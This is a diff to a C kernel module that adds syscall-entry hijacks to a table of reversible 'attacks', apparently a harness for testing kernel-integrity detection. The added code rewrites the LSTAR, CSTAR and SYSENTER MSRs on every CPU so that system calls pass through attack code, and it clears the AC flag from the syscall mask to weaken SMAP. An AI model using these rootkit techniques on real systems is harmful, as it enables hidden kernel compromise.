@@ -123,32 +123,92 @@ static void gdt_off(void)
 	patch_revert(&gdt);
 }
 
-static u64 lstar;
+// A register of every CPU.
+struct msr_change {
+	u32 msr;
+	u64 old, new;
+};
 
-static void write_lstar(void *value)
+static void write_msr(void *change)
 {
-	const u64 address = *(u64 *)value;
-	wrmsr(MSR_LSTAR, (u32)address, (u32)(address >> 32));
+	const struct msr_change *c = change;
+	wrmsr(c->msr, (u32)c->new, (u32)(c->new >> 32));
 }
+
+static void change_msr(struct msr_change *change, u64 value)
+{
+	change->new = value;
+	on_each_cpu(write_msr, change, 1);
+}
+
+static u64 read_msr(u32 msr)
+{
+	u32 low, high;
+	rdmsr(msr, low, high);
+	return (u64)high << 32 | low;
+}
+
+// Where a system call leads to, with code in between.
+static int redirect_entry(struct msr_change *change, u32 msr, const char *argument)
+{
+	void *code;
+	if (boot_cpu_has(X86_FEATURE_PTI)) // user page tables do not map what is in between
+		return -EOPNOTSUPP;
+	change->msr = msr;
+	change->old = read_msr(msr);
+	if (!change->old)
+		return -EOPNOTSUPP;
+	code = attack_code(argument, (void *)change->old);
+	if (!code)
+		return -ENOMEM;
+	change_msr(change, (u64)code);
+	return 0;
+}
+
+static struct msr_change lstar, cstar, sysenter, fmask;
 
 static int lstar_on(const char *argument)
 {
-	u32 low, high;
-	u64 code;
-	if (boot_cpu_has(X86_FEATURE_PTI)) // user page tables do not map what is in between
-		return -EOPNOTSUPP;
-	rdmsr(MSR_LSTAR, low, high);
-	lstar = (u64)high << 32 | low;
-	code = (u64)attack_code(argument, (void *)lstar);
-	if (!code)
-		return -ENOMEM;
-	on_each_cpu(write_lstar, &code, 1);
-	return 0;
+	return redirect_entry(&lstar, MSR_LSTAR, argument);
 }
 
 static void lstar_off(void)
 {
-	on_each_cpu(write_lstar, &lstar, 1);
+	change_msr(&lstar, lstar.old);
+}
+
+static int cstar_on(const char *argument)
+{
+	return redirect_entry(&cstar, MSR_CSTAR, argument);
+}
+
+static void cstar_off(void)
+{
+	change_msr(&cstar, cstar.old);
+}
+
+static int sysenter_on(const char *argument)
+{
+	return redirect_entry(&sysenter, MSR_IA32_SYSENTER_EIP, argument);
+}
+
+static void sysenter_off(void)
+{
+	change_msr(&sysenter, sysenter.old);
+}
+
+// A program that sets AC keeps it in the kernel, and with it the kernel's access to the program's memory.
+static int fmask_on(const char *argument)
+{
+	fmask.msr = MSR_SYSCALL_MASK;
+	fmask.old = read_msr(fmask.msr);
+	change_msr(&fmask, fmask.old & ~X86_EFLAGS_AC);
+	return 0;
+}
+
+static void fmask_off(void)
+{
+	change_msr(&fmask, fmask.old);
 }
 
 struct attack attack_system_calls[] = {
@@ -158,6 +218,9 @@ struct attack attack_system_calls[] = {
 	{"syscall_dispatch_32", dispatch_32_on, dispatch_32_off},
 	{"syscall_entry_call", entry_call_on, entry_call_off},
 	{"lstar", lstar_on, lstar_off},
+	{"cstar", cstar_on, cstar_off},
+	{"sysenter", sysenter_on, sysenter_off},
+	{"fmask", fmask_on, fmask_off},
 	{"idt_entry", idt_on, idt_off},
 	{"gdt_entry", gdt_on, gdt_off},
 	{},
